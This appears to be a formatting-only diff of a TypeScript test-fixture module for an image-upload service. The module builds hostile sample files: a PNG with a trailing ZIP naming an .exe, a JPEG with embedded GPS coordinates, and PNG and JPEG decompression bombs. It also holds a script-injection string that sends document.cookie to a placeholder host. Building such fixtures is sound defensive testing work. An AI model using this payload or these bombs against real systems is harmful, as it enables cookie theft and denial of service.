@@ -5,7 +5,10 @@ import { ktpJpeg, ktpPng } from "../sample-files.ts";
 export const script = "<script>document.location='https://contoh.invalid/'+document.cookie</script>";
 
 /** An end of a ZIP file that unpackers would find behind the picture. */
-const zipTail = Buffer.concat([Buffer.from("PK\x03\x04muatan.exe", "latin1"), Buffer.from("PK\x05\x06".padEnd(22, "\0"), "latin1")]);
+const zipTail = Buffer.concat([
+  Buffer.from("PK\x03\x04muatan.exe", "latin1"),
+  Buffer.from("PK\x05\x06".padEnd(22, "\0"), "latin1"),
+]);
 
 export async function pngWithZipTail(): Promise<Buffer> {
   return Buffer.concat([await ktpPng(), zipTail]);
@@ -25,7 +28,12 @@ export async function jpegWithPosition(): Promise<Buffer> {
   return upright
     .withExif({
       IFD0: { Make: "Kamera Contoh", Orientation: "6" },
-      IFD3: { GPSLatitudeRef: "S", GPSLatitude: "6/1 10/1 30/1", GPSLongitudeRef: "E", GPSLongitude: "106/1 49/1 38/1" },
+      IFD3: {
+        GPSLatitudeRef: "S",
+        GPSLatitude: "6/1 10/1 30/1",
+        GPSLongitudeRef: "E",
+        GPSLongitude: "106/1 49/1 38/1",
+      },
     })
     .withMetadata({ orientation: 6 })
     .jpeg()
@@ -38,7 +46,11 @@ export function pngFlood(width: number, height: number): Buffer {
   header.writeUInt32BE(width, 0);
   header.writeUInt32BE(height, 4);
   header.set([8, 0, 0, 0, 0], 8);
-  const chunks = [chunk("IHDR", header), chunk("IDAT", deflateSync(Buffer.alloc(1024 * 1024))), chunk("IEND", Buffer.alloc(0))];
+  const chunks = [
+    chunk("IHDR", header),
+    chunk("IDAT", deflateSync(Buffer.alloc(1024 * 1024))),
+    chunk("IEND", Buffer.alloc(0)),
+  ];
   return Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), ...chunks]);
 }
 
@@ -53,7 +65,9 @@ function chunk(kind: string, data: Buffer): Buffer {
 
 /** A small JPEG whose frame header says 65 500 by 65 500, which is 4.3 gigapixels. */
 export async function jpegFlood(): Promise<Buffer> {
-  const jpeg = await sharp({ create: { width: 16, height: 16, channels: 3, background: "#ffffff" } }).jpeg().toBuffer();
+  const jpeg = await sharp({ create: { width: 16, height: 16, channels: 3, background: "#ffffff" } })
+    .jpeg()
+    .toBuffer();
   const frame = jpeg.indexOf(Buffer.of(0xff, 0xc0));
   jpeg.writeUInt16BE(65_500, frame + 5);
   jpeg.writeUInt16BE(65_500, frame + 7);
